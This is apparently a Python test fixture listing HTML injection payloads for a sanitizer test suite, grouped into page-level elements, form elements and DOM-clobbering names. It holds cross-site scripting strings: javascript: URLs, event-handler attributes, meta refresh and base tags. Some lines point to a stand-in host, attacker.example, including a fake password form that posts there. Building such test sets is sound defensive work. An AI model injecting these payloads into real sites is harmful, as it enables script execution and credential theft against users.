"""Elements that bring frames, forms, plug-ins or rules for the whole page, and names that hide the page's own."""

from __future__ import annotations

from tests.payloads.payload import html

PAGE = [
    "<base href=javascript:alert(1)//><a href=x>y</a>",
    "<base href=https://attacker.example/><script src=x.js></script><img src=x>",
    "<base target=_top><a href=javascript:alert(1)>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>alert(1)</script>'>",
    "<meta http-equiv=refresh content='9;https://attacker.example/'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><script>alert(1)</script>",
    "<meta http-equiv=Set-Cookie content=a=b>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<meta name=referrer content=unsafe-url><img src=https://attacker.example/a>",
    "<link rel=import href=data:text/html,<script>alert(1)</script>>",
    "<link rel=prefetch href=https://attacker.example/><link rel=preconnect href=https://attacker.example/>",
    "<link rel=modulepreload href=data:text/javascript,alert(1) onload=alert(1)>",
    "<link rel=icon href=x onerror=alert(1)>",
    "<link rel=canonical href=https://attacker.example/>",
    "<object data=data:text/html,<script>alert(1)</script> type=text/html></object>",
    "<object type=text/x-scriptlet data=x onerror=alert(1)></object>",
    "<object><param name=movie value=javascript:alert(1)><img src=x onerror=alert(1)></object>",
    "<embed src=data:text/html,<script>alert(1)</script>>",
    "<embed code=x.swf allowscriptaccess=always onload=alert(1)>",
    "<applet code=x><img src=x onerror=alert(1)></applet>",
    "<frameset onload=alert(1)><frame src=x>",
    "</head><body onload=alert(1)>",
    "</body></html><script>alert(1)</script>",
    "<!DOCTYPE html><html><head><script>alert(1)</script></head><body onload=alert(1)>x</body></html>",
    "<?xml version='1.0'?><?xml-stylesheet href='javascript:alert(1)'?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]><p>&y;</p>",
    "<xml id=x><a onclick=alert(1)>y</a></xml><span datasrc=#x>z</span>",
    "<html xmlns:x=y><x:script>alert(1)</x:script><script>alert(1)</script>",
    "</div></div></article></main><script>alert(1)</script>",
    "</div></article><nav class=neighbours><a href=javascript:alert(1)>Newer</a></nav>",
    "</article><form action=https://attacker.example/><input name=password type=password><button>x</button></form>",
    "<dialog open><form method=dialog><button onclick=alert(1)>x</button></form></dialog>",
    "<div popover id=x onbeforetoggle=alert(1)>x</div><button popovertarget=x>y</button>",
    "<fencedframe></fencedframe><portal></portal><script>alert(1)</script>",
    "<keygen autofocus onfocus=alert(1)>",
    "<bgsound src=javascript:alert(1)><layer src=x></layer><ilayer src=x></ilayer>",
    "<slot onslotchange=alert(1)>x</slot><x-y onclick=alert(1)>z</x-y>",
]

FORMS = [
    "<form action=javascript:alert(1)><input type=submit value=x></form>",
    "<form onsubmit=alert(1)><button>x</button></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<form><input type=image src=x onerror=alert(1)></form>",
    "<form><input onfocus=alert(1) autofocus></form>",
    "<form><form action=javascript:alert(1)><button>x</button></form>",
    "<form id=x><table><form id=y><button formaction=javascript:alert(1)>z",
    "<input type=hidden onclick=alert(1) accesskey=x>",
    "<label for=x onclick=alert(1)>x</label><input id=x type=checkbox>",
    "<fieldset onclick=alert(1)><legend onclick=alert(1)>x</legend></fieldset>",
    "<output onclick=alert(1)>x</output><progress onclick=alert(1)></progress><meter onclick=alert(1)></meter>",
    "<isindex prompt=x action=javascript:alert(1)>",
]

NAMES = [
    *(
        f"<a id={name} name={name} href=https://attacker.example/>x</a><img name={name} src=x>"
        for name in ("appearance", "main", "body", "cookie", "location", "getElementById", "createElement", "head")
    ),
    "<form id=documentElement name=documentElement><input name=dataset><input name=parentNode></form>",
    "<form><input name=attributes><input name=nodeName><input name=removeChild onclick=alert(1)></form>",
    "<span id=appearance data-auto='<img src=x onerror=alert(1)>' data-label='<script>alert(1)</script>'>x</span>",
    "<a id=x><a id=x name=y href=javascript:alert(1)>z</a></a>",
    "<object id=defaultView name=defaultView></object><embed name=all>",
    "<p id=h-x name=h-x>y</p><h2>x</h2><h2 id='\"><script>alert(1)</script>'>x</h2>",
    "<li id='fn:1\"onclick=\"alert(1)'>x</li><sup id=fnref:1>y</sup>",
    "<h2><img src=x onerror=alert(1) alt='<script>alert(1)</script>'></h2>",
    '<h2>&lt;script&gt;alert(1)&lt;/script&gt;</h2><h3>" onclick=alert(1) x="</h3>',
    "<a href='#\"><img src=x onerror=alert(1)>'>x</a><p id='\"><img src=x onerror=alert(1)>'>y</p>",
    "<p class='skip masthead menu article content neighbours' id=content>x</p>",
    "<p data-theme=dark data-x='<script>alert(1)</script>' aria-label='\"><script>alert(1)</script>'>x</p>",
    "<p slot=x part=y exportparts=z nonce=n itemscope itemtype=javascript:alert(1)>x</p>",
]

PAYLOADS = (*html("page element", PAGE), *html("form", FORMS), *html("name", NAMES))
